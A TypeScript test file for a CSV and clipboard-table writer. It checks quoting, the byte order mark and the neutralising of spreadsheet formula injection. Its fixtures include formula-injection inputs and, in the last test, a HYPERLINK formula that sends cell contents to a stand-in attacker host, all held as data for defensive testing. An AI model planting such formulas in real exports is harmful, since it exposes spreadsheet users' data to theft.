import fc from 'fast-check';
import { expect, test } from 'vitest';
import { clipboardTable, csvFile, csvLine } from './csv-write.ts';

/** A plain reader of RFC 4180, to hold the writer against. */
function read(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  for (const [, quoted, bare, end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g)) {
    row.push(quoted === undefined ? (bare ?? '') : quoted.replaceAll('""', '"'));
    if (end === ',') continue;
    rows.push(row);
    row = [];
  }
  return rows;
}

test('cells are quoted where they must be', () => {
  expect(csvLine(['a', 'b c', 3, true, null, undefined])).toBe('a,b c,3,true,,\r\n');
  expect(csvLine(['say "hi"', 'a,b', 'a;b', 'two\nlines', ' padded '])).toBe(
    '"say ""hi""","a,b","a;b","two\nlines"," padded "\r\n',
  );
  expect(csvLine([''])).toBe('""\r\n');
});

test.each(['+491701234567', '+49 170 1234567', '+4'])('a phone number stays as it is: %j', (text) => {
  expect(read(csvLine([text, 'b']))).toEqual([[text, 'b']]);
});

test.each([
  '=1+1',
  '+',
  '+ 49',
  '+49-30',
  '+49+1',
  '+49 A1',
  '+1/2',
  '+１',
  '+49\n=1',
  '+1.5',
  '+1e3',
  '-2',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '=1',
  '＠x',
])('text that a spreadsheet would run is neutralised: %j', (text) => {
  expect(read(csvLine([text, 'b']))).toEqual([[`'${text}`, 'b']]);
});

test('numbers below zero, and signs inside of a text, are left alone', () => {
  expect(csvLine([-2, 'a=b', "'=1", 'x@y.example'])).toBe("-2,a=b,'=1,x@y.example\r\n");
});

test('what is written is read again as it was, but for the apostrophe', () => {
  const text = fc.oneof(
    fc.string({ unit: 'binary', maxLength: 8 }),
    fc.array(fc.constantFrom(...',;"\r\n\t =+-@\'a'), { maxLength: 8 }).map((signs) => signs.join('')),
  );
  const rows = fc.array(fc.array(text, { minLength: 1, maxLength: 4 }), { minLength: 1, maxLength: 4 });
  fc.assert(
    fc.property(rows, (given) => {
      const parsed = read(given.map((row) => csvLine(row)).join(''));
      const safe = (cell: string) =>
        /^[=+\-@\t\r\n＝＋－＠]/.test(cell) && !/^\+[0-9][0-9 ]*$/.test(cell) ? `'${cell}` : cell;
      expect(parsed).toEqual(given.map((row) => row.map(safe)));
    }),
  );
});

test('a file begins with a byte order mark', async () => {
  const bytes = new Uint8Array(await csvFile([csvLine(['é'])]).arrayBuffer());
  expect([...bytes]).toEqual([0xef, 0xbb, 0xbf, 0xc3, 0xa9, 0x0d, 0x0a]);
});

test('a copied table keeps every cell in its place and runs no formula', () => {
  const text = clipboardTable([
    ['Audience', 'Sessions'],
    ['=HYPERLINK("https://evil.example/?"&A1,"x")', '12'],
    ['two\twords\r\nand a line', '3'],
    ['\t=1+1', '1,204'],
  ]);
  expect(text.split('\n').map((line) => line.split('\t'))).toEqual([
    ['Audience', 'Sessions'],
    [`'=HYPERLINK("https://evil.example/?"&A1,"x")`, '12'],
    ['two words and a line', '3'],
    ["'=1+1", '1,204'],
  ]);
});
